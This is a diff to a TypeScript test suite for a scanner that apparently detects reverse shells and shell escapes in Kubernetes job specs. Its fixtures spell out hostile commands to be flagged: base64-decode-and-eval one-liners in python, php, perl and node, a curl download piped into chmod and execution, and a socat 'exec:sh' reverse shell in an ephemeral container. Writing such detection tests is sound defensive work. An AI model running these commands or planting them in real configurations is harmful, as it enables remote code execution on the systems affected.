@@ -52,6 +52,10 @@ const REVERSE_SHELLS: Array<[string, string, RegExp]> = [
   ['base64 -di (combined)', 'base64 -di p > x', /decodes base64/],
   ['openssl base64 -d', 'openssl base64 -d -in p -out x', /decodes base64/],
   ['openssl enc -d -base64', 'openssl enc -d -base64 -in p', /decodes base64/],
+  ['python exec of base64', `python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"`, /decodes base64/],
+  ['php eval of base64_decode', `php -r 'eval(base64_decode("ZWNobyAxOw=="));'`, /decodes base64/],
+  ['perl MIME::Base64 decode', `perl -MMIME::Base64 -e 'eval decode_base64("cHJpbnQgMQ==")'`, /decodes base64/],
+  ['node Buffer.from base64', `node -e 'eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())'`, /decodes base64/],
   ['chmod +x', 'curl -o /tmp/x http://x && chmod +x /tmp/x && /tmp/x', /chmod \+x/],
   ['chmod u+x', 'chmod u+x /tmp/x', /chmod \+x/],
   ['chmod a=rwx', 'chmod a=rwx /tmp/x', /chmod \+x/],
@@ -74,6 +78,7 @@ const LOOK_ALIKES: Array<[string, string]> = [
   ['printf of a /dev/tcp path', 'printf "%s\\n" /dev/tcp/10.0.0.1/80'],
   ['a non-interactive bash script', 'bash /scripts/backup.sh --incremental'],
   ['bash -c with -e and -x flags', 'bash -exc "pg_dump db > /backup/db.sql"'],
+  ['python encoding base64 is not decoding', `python3 -c 'import base64,sys;print(base64.b64encode(sys.stdin.buffer.read()))'`],
   ['base64 encoding', 'tar c /data | base64 > /backup/data.b64'],
   ['base64 -w 0 (wrap, not decode)', 'base64 -w 0 file'],
   ['chmod without execute bits', 'chmod 644 /etc/app.conf; chmod 600 ~/.ssh/id_rsa; chmod go-w /data; chmod -x /tmp/x'],
@@ -154,6 +159,24 @@ describe('shell-escape reporting', () => {
     const [finding] = findingsOf(text, 'shell-escape');
     assert.equal(finding.path, `${JOB_POD_SPEC}/containers/0/command/2`);
     assert.equal(finding.range?.start.line, 12);
+  });
+
+  test('initContainers and ephemeralContainers commands are checked at their own paths', () => {
+    const text = job(
+      [
+        'restartPolicy: Never',
+        'initContainers:',
+        '- {name: init, image: r/init, command: [sh, -c, "mkfifo /tmp/p"]}',
+        'ephemeralContainers:',
+        '- {name: debug, image: r/debug, command: [socat, "tcp:h:1", "exec:sh"]}',
+        'containers:',
+        '- {name: main, image: r/main}',
+      ].join('\n'),
+    );
+    assert.deepEqual(
+      findingsOf(text, 'shell-escape').map((finding) => finding.path),
+      [`${JOB_POD_SPEC}/initContainers/0/command/2`, `${JOB_POD_SPEC}/ephemeralContainers/0/command/0`],
+    );
   });
 
   test('seed profile keeps shell-escape (it is clause 2)', async () => {
